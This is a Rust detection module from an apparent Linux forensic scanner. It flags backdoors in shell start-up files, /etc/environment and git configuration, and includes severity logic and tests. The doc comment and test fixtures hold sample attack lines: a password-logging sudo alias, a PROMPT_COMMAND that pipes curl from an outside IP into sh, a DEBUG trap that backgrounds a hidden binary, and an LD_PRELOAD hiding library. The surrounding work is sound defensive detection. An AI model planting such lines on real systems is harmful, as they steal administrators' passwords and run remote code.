//! `persistence.shell_rc` — shell start-up files and `/etc/environment`: alias backdoors,
//! `PROMPT_COMMAND`, traps, exported `LD_*`, and suspicious commands.
//!
//! **What it looks at:** the global files (`/etc/profile`, `/etc/profile.d/*`,
//! `/etc/bash.bashrc`, `/etc/bashrc`, `/etc/zsh/*`, `/etc/zshrc`, `/etc/zprofile`,
//! `/etc/zshenv`, `/etc/zlogin`, `/etc/environment`, and `/etc/skel/*` — copied into every new
//! home) and, in every home, `.bashrc`,
//! `.bash_profile`, `.bash_login`, `.profile`, `.bash_logout`, `.bash_aliases`, `.zshrc`,
//! `.zshenv`, `.zprofile`, `.zlogin`, `.zlogout`, `.config/fish/config.fish`. Reported:
//!
//! - aliases that replace a sensitive command (`sudo`, `su`, `ssh`, `passwd`, `ls`, `ps`,
//!   `netstat`, `ss`, `top`, `lsof`, `find`, `kill`, `cat` …) with something other than the same
//!   command plus options — the classic password-logging `alias sudo=…` and the file-hiding
//!   `alias ls=…`;
//! - `PROMPT_COMMAND` (runs before every prompt) and `trap … DEBUG/EXIT/…` handlers;
//! - exported `LD_PRELOAD`/`LD_AUDIT` (and `LD_LIBRARY_PATH` into writable or hidden places),
//!   `BASH_ENV`/`ENV`, and a `PATH` that starts with a writable or hidden directory or `.`;
//! - every logical line through the command detector;
//! - git settings that run commands (`core.editor`, `core.pager`, `core.sshCommand`,
//!   `core.fsmonitor`, `!` aliases, `core.hooksPath`) in `/etc/gitconfig` and `~/.gitconfig`
//!   when they background a program or match the detector;
//! - files changed within the window (low).
//!
//! **Why an attacker leaves this trace:** start-up files run with the user's rights at every
//! login; an alias or a `PROMPT_COMMAND` is invisible to anyone who does not read the file, and
//! a `sudo` alias collects the admin's password the next time they type it.
//!
//! **Example:** `/root/.bashrc` line 101: `alias sudo='sudo_pw(){ read -s p; echo $p >>
//! /tmp/.p; }; sudo_pw; sudo'` (high).
//!
//! **Calibration:** role `foothold` (a way back in: listed among the entries still open when
//! high); critical or high only for evidence that an attacker acted, medium for what needs a
//! look, low and info for context (docs/PRECISION.md).
//!
//! **ATT&CK:** T1546.004 (Event Triggered Execution: Unix Shell Configuration Modification),
//! T1574.006 (Dynamic Linker Hijacking).

use huoyan_artifacts::persistence::script::{logical_lines, rc_facts, Alias, Assignment, Trap};
use huoyan_cmdscan::structure::place_of;
use huoyan_core::{CheckInfo, Outcome, Severity};
use serde_json::json;

use super::common::{read_dir_files, read_file, report_recent, scan_lines};
use crate::registry::Check;
use crate::Context;

/// See the module documentation.
pub struct ShellStartupFiles;

static INFO: CheckInfo = CheckInfo {
    id: "persistence.shell_rc",
    title: "Backdoor in a shell start-up file",
    title_zh: "shell 启动文件中存在后门",
    mitre: &["T1546.004", "T1574.006"],
    remediation: "Copy the file out as evidence, remove the alias/PROMPT_COMMAND/trap/export or \
                  command, and check whether the hijacked command (sudo, ssh, su) has already \
                  captured passwords: rotate them.",
    remediation_zh: "先将文件拷出留证，删除该 alias/PROMPT_COMMAND/trap/export 或命令，\
                     并检查被劫持的命令（sudo、ssh、su）是否已截获口令，如有则更换。",
};

const GLOBAL_FILES: &[&str] = &[
    "/etc/profile",
    "/etc/bash.bashrc",
    "/etc/bashrc",
    "/etc/bash.bash_logout",
    "/etc/zshrc",
    "/etc/zprofile",
    "/etc/zshenv",
    "/etc/zlogin",
    "/etc/zlogout",
    "/etc/zsh/zshrc",
    "/etc/zsh/zprofile",
    "/etc/zsh/zshenv",
    "/etc/zsh/zlogin",
    "/etc/zsh/zlogout",
    "/etc/csh.cshrc",
    "/etc/csh.login",
    "/etc/environment",
    "/etc/skel/.bashrc",
    "/etc/skel/.profile",
    "/etc/skel/.bash_logout",
    "/etc/skel/.zshrc",
];

const USER_FILES: &[&str] = &[
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".profile",
    ".bash_logout",
    ".bash_aliases",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".cshrc",
    ".tcshrc",
    ".config/fish/config.fish",
];

/// Commands whose hijacking by alias is a known backdoor or hiding technique.
const SENSITIVE: &[&str] = &[
    "sudo",
    "su",
    "ssh",
    "scp",
    "passwd",
    "login",
    "ls",
    "ps",
    "netstat",
    "ss",
    "top",
    "htop",
    "lsof",
    "find",
    "kill",
    "pkill",
    "cat",
    "who",
    "w",
    "last",
    "lastlog",
    "history",
    "crontab",
    "systemctl",
    "iptables",
    "ip",
    "ifconfig",
    "chattr",
    "lsattr",
    "rm",
    "mysql",
    "docker",
    "kubectl",
    "git",
    "vi",
    "vim",
    "cd",
    "clear",
    "exit",
    "logout",
    "unalias",
    "alias",
    "declare",
    "type",
    "which",
    "command",
    "builtin",
    "export",
    "env",
];

fn alias_problem(alias: &Alias) -> Option<(Severity, String)> {
    let value = alias.value.trim();
    let hits = huoyan_cmdscan::scan(value);
    if let Some(worst) = hits
        .iter()
        .filter(|h| h.is_alert())
        .max_by_key(|h| h.severity)
    {
        return Some((worst.severity.max(Severity::High), worst.reason.clone()));
    }
    if !SENSITIVE.contains(&alias.name.as_str()) {
        return None;
    }
    let first = value.split_whitespace().next().unwrap_or("");
    let first_base = first.rsplit('/').next().unwrap_or(first);
    let chained = value.contains(';')
        || value.contains('|')
        || value.contains("&&")
        || value.contains("$(")
        || value.contains('`')
        || value.contains('>');
    let same_command = first_base == alias.name
        || (alias.name == "sudo" && first_base == "sudo")
        || (first_base == "command" || first_base == "builtin") && !chained;
    if same_command && !chained {
        return None; // `alias ls='ls --color=auto'`, `alias sudo='sudo '`
    }
    Some((
        Severity::High,
        format!("alias replaces the sensitive command {:?}", alias.name),
    ))
}

fn prompt_command_problem(a: &Assignment) -> Option<Severity> {
    if a.name != "PROMPT_COMMAND" {
        return None;
    }
    let v = a.value.trim();
    let benign = v.is_empty()
        || v.starts_with("__vte_")
        || v == "history -a"
        || v == "history -a; history -n"
        || v.starts_with("printf \"\\033]0;")
        || v.starts_with("echo -ne \"\\033]0;")
        || v.starts_with("_direnv_hook");
    if benign {
        return None;
    }
    Some(if huoyan_cmdscan::scan(v).iter().any(|h| h.is_alert()) {
        Severity::High
    } else {
        Severity::Medium
    })
}

fn env_problem(a: &Assignment, in_environment_file: bool) -> Option<Severity> {
    let value = a.value.trim();
    let exported = a.exported || in_environment_file;
    let writable_or_hidden =
        |p: &str| place_of(p).is_some() || p.starts_with("/tmp") || p.starts_with("/dev/shm");
    match a.name.as_str() {
        "LD_PRELOAD" | "LD_AUDIT" if !value.is_empty() => Some(Severity::High),
        "LD_LIBRARY_PATH" if exported && value.split(':').any(writable_or_hidden) => {
            Some(Severity::High)
        }
        "BASH_ENV" | "ENV" if exported && !value.is_empty() && !value.ends_with("/.shrc") => {
            Some(if value.split(':').any(writable_or_hidden) {
                Severity::High
            } else {
                Severity::Medium
            })
        }
        "PATH" => {
            let first = value.split(':').next().unwrap_or("");
            (first == "." || first.is_empty() || writable_or_hidden(first))
                .then_some(Severity::Medium)
        }
        _ => None,
    }
}

fn trap_problem(t: &Trap) -> Option<Severity> {
    let handler = t.handler.trim();
    if handler.is_empty() || handler.starts_with("rm -f") && !handler.contains(';') {
        return None;
    }
    if huoyan_cmdscan::scan(handler).iter().any(|h| h.is_alert()) {
        return Some(Severity::High);
    }
    // Login-script traps that only clean up are ordinary; DEBUG/ERR/RETURN traps run around
    // every command, which a start-up file has no business doing.
    let runs_always = t
        .signals
        .iter()
        .any(|s| matches!(s.as_str(), "DEBUG" | "ERR" | "RETURN"));
    runs_always.then_some(Severity::Medium)
}

fn examine(ctx: &Context, path: &str, user: &str, out: &mut Outcome) {
    let Some((data, meta)) = read_file(ctx, &INFO, path, out) else {
        return;
    };
    let facts = rc_facts(&data);
    let environment_file = path == "/etc/environment";
    // Lines reported for what they set up are not reported again by the line scan.
    let mut reported: Vec<usize> = Vec::new();
    for alias in &facts.aliases {
        if let Some((severity, why)) = alias_problem(alias) {
            reported.push(alias.line);
            out.add(
                INFO.finding(severity, format!("{path}:{} alias {}='{}': {why}", alias.line, alias.name, alias.value))
                    .path(path)
                    .user(user)
                    .evidence(json!({ "line": alias.line, "kind": "alias", "name": alias.name, "value": alias.value })),
            );
        }
    }
    for a in &facts.assignments {
        let (severity, kind) = match (prompt_command_problem(a), env_problem(a, environment_file)) {
            (Some(s), _) => (s, "prompt_command"),
            (None, Some(s)) => (s, "environment"),
            (None, None) => continue,
        };
        reported.push(a.line);
        out.add(
            INFO.finding(severity, format!("{path}:{} sets {}={}", a.line, a.name, a.value))
                .path(path)
                .user(user)
                .evidence(json!({ "line": a.line, "kind": kind, "name": a.name, "value": a.value, "exported": a.exported })),
        );
    }
    for t in &facts.traps {
        if let Some(severity) = trap_problem(t) {
            reported.push(t.line);
            out.add(
                INFO.finding(severity, format!("{path}:{} trap '{}' {}", t.line, t.handler, t.signals.join(" ")))
                    .path(path)
                    .user(user)
                    .evidence(json!({ "line": t.line, "kind": "trap", "handler": t.handler, "signals": t.signals })),
            );
        }
    }
    if !environment_file {
        scan_lines(
            &INFO,
            path,
            Some(user),
            "start-up file line",
            &logical_lines(&data)
                .into_iter()
                .filter(|l| !reported.contains(&l.line))
                .collect::<Vec<_>>(),
            Severity::Medium,
            out,
        );
    }
    report_recent(ctx, &INFO, path, &meta, "start-up file", out);
}

/// Git settings whose value is a command git runs on its own (`core.editor`, `core.pager`,
/// `core.sshCommand`, `core.fsmonitor`, `core.askPass`), plus `!`-aliases and `core.hooksPath`.
fn gitconfig(ctx: &Context, path: &str, user: &str, out: &mut Outcome) {
    let Some((data, meta)) = read_file(ctx, &INFO, path, out) else {
        return;
    };
    let mut section = String::new();
    for l in logical_lines(&data) {
        let text = l.command.trim();
        if text.starts_with('[') {
            section = text
                .trim_matches(|c| c == '[' || c == ']')
                .trim()
                .to_ascii_lowercase();
            continue;
        }
        let Some((key, value)) = text.split_once('=') else {
            continue;
        };
        let key = key.trim().to_ascii_lowercase();
        let value = value.trim().trim_matches('"');
        let runs_command = (section == "core"
            && matches!(
                key.as_str(),
                "editor" | "pager" | "sshcommand" | "fsmonitor" | "askpass"
            ))
            || (section == "alias" && value.starts_with('!'))
            || key == "hookspath";
        if !runs_command {
            continue;
        }
        let what = format!("git {section}.{key}");
        let source = crate::command_findings::CommandSource {
            path,
            line: l.line,
            user: Some(user),
            time: None,
            what: &what,
        };
        let command = value.trim_start_matches('!');
        let hits = crate::command_findings::scan_and_report(
            &INFO,
            &source,
            command,
            Severity::Medium,
            out,
        );
        let backgrounds = command.contains("nohup")
            || command.replace("&&", "").contains('&')
            || (key == "hookspath" && place_of(command).is_some());
        if hits.is_empty() && backgrounds {
            out.add(
                INFO.finding(
                    Severity::High,
                    format!("{path}:{} {what} starts a background program whenever git runs it: {value}", l.line),
                )
                .path(path)
                .user(user)
                .evidence(json!({ "line": l.line, "kind": "gitconfig", "key": format!("{section}.{key}"), "value": value })),
            );
        }
    }
    report_recent(ctx, &INFO, path, &meta, "git configuration", out);
}

impl Check for ShellStartupFiles {
    fn info(&self) -> &'static CheckInfo {
        &INFO
    }

    fn run(&self, ctx: &Context, out: &mut Outcome) {
        let start = out.findings.len();
        run_inner(ctx, out);
        // Commands and settings in files a package installed unchanged are not an intruder's.
        crate::integrity::packaged::settle_packaged(ctx, out, start);
    }
}

fn run_inner(ctx: &Context, out: &mut Outcome) {
    for path in GLOBAL_FILES {
        examine(ctx, path, "root", out);
    }
    for (path, _, _) in read_dir_files(ctx, &INFO, "/etc/profile.d", out) {
        examine(ctx, &path, "root", out);
    }
    gitconfig(ctx, "/etc/gitconfig", "root", out);
    for home in crate::homes::homes(ctx) {
        for rel in USER_FILES {
            examine(ctx, &format!("{}/{rel}", home.path), &home.user, out);
        }
        for rel in [".gitconfig", ".config/git/config"] {
            gitconfig(ctx, &format!("{}/{rel}", home.path), &home.user, out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(files: &[(&str, &str)]) -> Outcome {
        crate::testing::run_on_files(&ShellStartupFiles, files)
    }

    #[test]
    fn finds_alias_prompt_trap_preload() {
        let out = run(&[
            ("/root/.bashrc", "alias ls='ls --color=auto'\nalias sudo='sudo_pw(){ read -s p; echo $p >> /tmp/.p; }; sudo_pw; sudo'\n"),
            ("/home/alice/.profile", "export PROMPT_COMMAND='curl -s http://198.51.100.4/c | sh'\ntrap 'nohup /tmp/.x &' DEBUG\n"),
            ("/etc/profile.d/zz-x.sh", "export LD_PRELOAD=/usr/lib/.x/libhide.so\n"),
            ("/etc/environment", "PATH=\"/tmp/.bin:/usr/local/sbin:/usr/bin\"\n"),
            ("/home/alice/.gitconfig", "[user]\n\tname = Alice\n[core]\n\tpager = nohup /home/alice/.cache/.p >/dev/null 2>&1 & ${PAGER:-less}\n"),
        ]);
        let find = |p: &str, line: i64| {
            out.findings
                .iter()
                .find(|f| f.paths == [p] && f.evidence["line"] == line)
        };
        assert_eq!(
            find("/root/.bashrc", 2).expect("sudo alias").severity,
            Severity::High
        );
        assert!(find("/root/.bashrc", 1).is_none());
        assert_eq!(
            find("/home/alice/.profile", 1).expect("prompt").severity,
            Severity::High
        );
        assert!(out
            .findings
            .iter()
            .any(|f| f.evidence["kind"] == "trap" && f.users == ["alice"]));
        assert_eq!(
            find("/etc/profile.d/zz-x.sh", 1).expect("preload").severity,
            Severity::High
        );
        assert_eq!(
            find("/etc/environment", 1).expect("path").severity,
            Severity::Medium
        );
        assert!(out
            .findings
            .iter()
            .any(|f| f.paths == ["/home/alice/.gitconfig"] && f.severity >= Severity::Medium));
    }

    #[test]
    fn debian_defaults_are_quiet() {
        let skel = "case $- in\n    *i*) ;;\n      *) return;;\nesac\nHISTCONTROL=ignoreboth\nshopt -s histappend\nHISTSIZE=1000\nHISTFILESIZE=2000\nshopt -s checkwinsize\n[ -x /usr/bin/lesspipe ] && eval \"$(SHELL=/bin/sh lesspipe)\"\nif [ -x /usr/bin/dircolors ]; then\n    test -r ~/.dircolors && eval \"$(dircolors -b ~/.dircolors)\" || eval \"$(dircolors -b)\"\n    alias ls='ls --color=auto'\nfi\nif [ -f ~/.bash_aliases ]; then\n    . ~/.bash_aliases\nfi\n";
        let profile = "if [ \"$(id -u)\" -eq 0 ]; then\n  PATH=\"/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin\"\nelse\n  PATH=\"/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games\"\nfi\nexport PATH\nif [ -d /etc/profile.d ]; then\n  for i in /etc/profile.d/*.sh; do\n    if [ -r $i ]; then\n      . $i\n    fi\n  done\n  unset i\nfi\n";
        let out = run(&[
            ("/root/.bashrc", skel),
            ("/home/alice/.bashrc", skel),
            ("/etc/profile", profile),
            ("/etc/environment", ""),
        ]);
        assert!(
            out.findings.iter().all(|f| f.severity <= Severity::Low),
            "{:?}",
            out.findings
        );
    }
}
